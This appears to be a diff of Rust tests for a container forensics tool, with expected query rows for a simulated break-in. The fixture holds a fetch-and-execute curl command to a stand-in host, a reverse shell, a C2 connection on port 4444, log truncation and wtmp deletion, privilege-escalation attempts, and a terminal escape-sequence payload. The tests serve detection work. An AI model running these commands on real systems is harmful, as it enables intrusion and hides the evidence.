@@ -17,13 +17,16 @@ process | exec | 5000 | exec sh /entrypoint.sh | null
 process | exec | 5001 | exec httpd -f -p 8080 | null
 network | listen | 5001 | listen tcp [::]:8080 | 0
 file | open | 5001 | open /etc/httpd.conf | 0
+file | io | 5001 | io /etc/httpd.conf (read 212, wrote 0 bytes) | null
 file | open | 5001 | open /etc/httpd.d/extra.conf (no such file) | -2
 network | accept | 5001 | accept tcp 203.0.113.9:40112 | 0
 process | exec | 5010 | exec sh -c 'curl -so /tmp/.part http://198.51.100.7/x && mv /tmp/.part /tmp/.x; chmod 755 /tmp/.x; /tmp/.x' | null
 finding | reverse_shell | 5010 | critical: sh runs with 203.0.113.9:40112 as its standard input | null
+lifecycle | level | null | container level: full: reverse_shell | null
 process | exec | 5011 | exec curl -so /tmp/.part http://198.51.100.7/x | null
 network | connect | 5011 | connect tcp 198.51.100.7:80 | 0
 file | create | 5011 | create /tmp/.part | 0
+file | io | 5011 | io /tmp/.part (read 0, wrote 1482752 bytes) | null
 network | close | 5011 | close tcp 198.51.100.7:80 (sent 84, received 1482752 bytes) | 0
 process | exit | 5011 | exit 0: curl -so /tmp/.part http://198.51.100.7/x | null
 process | exec | 5012 | exec mv /tmp/.part /tmp/.x | null
@@ -33,13 +36,40 @@ process | exec | 5013 | exec chmod 755 /tmp/.x | null
 file | chmod | 5013 | chmod 755 /tmp/.x | 0
 process | exit | 5013 | exit 0: chmod 755 /tmp/.x | null
 process | exec | 5014 | exec /tmp/.x | null
+kernel | mprotect_wx | 5014 | mprotect PROT_READ|PROT_WRITE|PROT_EXEC, 4096 bytes | 0
+network | connect | 5014 | connect udp 172.17.0.1:53 | 0
+dns | query | 5014 | query A beacon.example | null
+dns | response | 5014 | response A beacon.example: 198.51.100.7 | null
+network | close | 5014 | close udp 172.17.0.1:53 (sent 32, received 48 bytes) | 0
 network | connect | 5014 | connect tcp 127.0.0.1:4444 (refused) | -111
-network | connect | 5014 | connect tcp 198.51.100.7:4444 | 0
+network | connect | 5014 | connect tcp 198.51.100.7:4444 for beacon.example | 0
 file | unlink | 5014 | unlink /tmp/.x | 0
+file | open | 5014 | open /etc/passwd (was /etc/motd when the call began) | 0
+file | mkdir | 5014 | mkdir /var/tmp/.c | 0
+file | symlink | 5014 | symlink /var/tmp/.c/log -> /dev/null | 0
+file | chown | 5014 | chown 33 /var/tmp/.c | 0
+file | truncate | 5014 | truncate /var/log/httpd.log to 0 bytes | 0
+file | setxattr | 5014 | setxattr /var/tmp/.c security.capability (not permitted) | -1
+file | unlink | 5014 | unlink /var/log/wtmp | null
+network | connect | 5014 | connect unix /var/run/docker.sock (no such file) | -2
+network | connect | 5014 | connect tcp [2001:db8::7]:443 (network unreachable) | -101
+network | socket | 5014 | socket raw | 0
+privilege | setuid | 5014 | setresuid uid 0, effective 0, saved 0 | 0
+privilege | unshare | 5014 | unshare CLONE_NEWUSER (not permitted) | -1
+kernel | ptrace | 5014 | ptrace PTRACE_ATTACH pid 1 (not permitted) | -1
+kernel | mount | 5014 | mount type ext4 /dev/sda1 -> /mnt (not permitted) | -1
 gap | ring_full | null | 3 bulk events missing | null
 process | exit | 5014 | killed by signal 9: /tmp/.x | null
 process | exit | 5010 | exit 137: sh -c 'curl -so /tmp/.part http://198.51.100.7/x && mv /tmp/.part /tmp/.x; chmod 755 /tmp/.x; /tmp/.x' | null
 network | close | 5001 | close tcp 203.0.113.9:40112 (sent 512, received 301 bytes) | 0
+lifecycle | entered | null | container entered: sh (5020) by dockerd (800) | null
+process | exec | 5020 | exec sh (from outside) | null
+terminal | printed | 5020 | printed \"/ # \" | null
+terminal | typed | 5020 | typed \"id\\n\" | null
+terminal | printed | 5020 | printed \"uid=0(root) gid=0(root)\\n/ # \" | null
+terminal | typed | 5020 | typed \"cat /tmp/note\\n\" | null
+terminal | printed | 5020 | printed \"\\e]0;owned\\u{7}\\e[31m\\u{202e}exe.txt\\u{9b}2J\\r\\n…\" | null
+process | exit | 5020 | exit 0: sh | null
 finding | manual | null | info: asked for by root | null";
     assert_eq!(rows(&session, sql).join("\n"), expected);
 }
@@ -57,7 +87,8 @@ fn the_process_tree_stands_depth_first_with_ancestors_and_ends() {
 5 |         └ curl -so /tmp/.part http://198.51.100.7/x | 0 | true | init > dockerd > sh > httpd > sh > curl
 5 |         └ mv /tmp/.part /tmp/.x | 0 | true | init > dockerd > sh > httpd > sh > mv
 5 |         └ chmod 755 /tmp/.x | 0 | true | init > dockerd > sh > httpd > sh > chmod
-5 |         └ /tmp/.x | signal 9 | true | init > dockerd > sh > httpd > sh > .x";
+5 |         └ /tmp/.x | signal 9 | true | init > dockerd > sh > httpd > sh > .x
+2 |   └ sh | 0 | true | init > dockerd > sh";
     assert_eq!(rows(&session, sql).join("\n"), expected);
 }
 
@@ -70,8 +101,12 @@ fn connections_say_who_talked_to_whom_and_how_it_ended() {
 null | [::]:8080 | null | listening | null | null | null | httpd -f -p 8080
 inbound | 172.17.0.2:8080 | 203.0.113.9:40112 | closed | 512 | 301 | 3200 | httpd -f -p 8080
 outbound | 172.17.0.2:51000 | 198.51.100.7:80 | closed | 84 | 1482752 | 450 | curl -so /tmp/.part http://198.51.100.7/x
+outbound | 172.17.0.2:40053 | 172.17.0.1:53 | closed | 32 | 48 | 20 | /tmp/.x
 outbound | 127.0.0.1:51001 | 127.0.0.1:4444 | refused | 0 | 0 | 1 | /tmp/.x
-outbound | 172.17.0.2:51002 | 198.51.100.7:4444 | open | null | null | null | /tmp/.x";
+outbound | 172.17.0.2:51002 | 198.51.100.7:4444 | open | null | null | null | /tmp/.x
+outbound | null | /var/run/docker.sock | failed | null | null | null | /tmp/.x
+outbound | null | [2001:db8::7]:443 | failed | null | null | null | /tmp/.x
+null | null | null | made | null | null | null | /tmp/.x";
     assert_eq!(rows(&session, sql).join("\n"), expected);
 }
 
@@ -79,11 +114,18 @@ outbound | 172.17.0.2:51002 | 198.51.100.7:4444 | open | null | null | null | /t
 fn file_writes_leave_reads_and_failures_out() {
     let (_dir, session) = incident();
     let expected = "\
-create | /tmp/.part | null | O_WRONLY|O_CREAT|O_TRUNC
-rename | /tmp/.part | /tmp/.x |\x20
-chmod | /tmp/.x | null |\x20
-unlink | /tmp/.x | null |\x20";
-    assert_eq!(rows(&session, "SELECT op, path, new_path, flags FROM file_writes").join("\n"), expected);
+create | /tmp/.part | null | null | false | 0
+io | /tmp/.part | null | 1482752 | false | null
+rename | /tmp/.part | /tmp/.x | null | false | 0
+chmod | /tmp/.x | null | null | true | 0
+unlink | /tmp/.x | null | null | false | 0
+mkdir | /var/tmp/.c | null | null | false | 0
+symlink | /var/tmp/.c/log | /dev/null | null | false | 0
+chown | /var/tmp/.c | null | null | false | 0
+truncate | /var/log/httpd.log | null | null | false | 0
+unlink | /var/log/wtmp | null | null | false | null";
+    let sql = "SELECT op, path, new_path, bytes_written, made_executable, result FROM file_writes";
+    assert_eq!(rows(&session, sql).join("\n"), expected);
 }
 
 #[test]
@@ -106,7 +148,7 @@ fn the_timeline_keeps_who_it_was_and_how_it_ended() {
     let failed = "SELECT time, op, comm, exe, result, bundle FROM timeline WHERE result < 0 AND comm = 'httpd'";
     let expected = "2026-03-14T09:00:00.710000000Z | open | httpd | /bin/busybox | -2 | 0badcafe";
     assert_eq!(rows(&session, failed), [expected]);
-    let joined = "SELECT p.cmdline FROM timeline t JOIN process p ON p.exec_id = t.exec_id WHERE t.op = 'unlink'";
+    let joined = "SELECT p.cmdline FROM timeline t JOIN process p ON p.exec_id = t.exec_id WHERE t.op = 'chown'";
     assert_eq!(rows(&session, joined), ["/tmp/.x"]);
 }
 
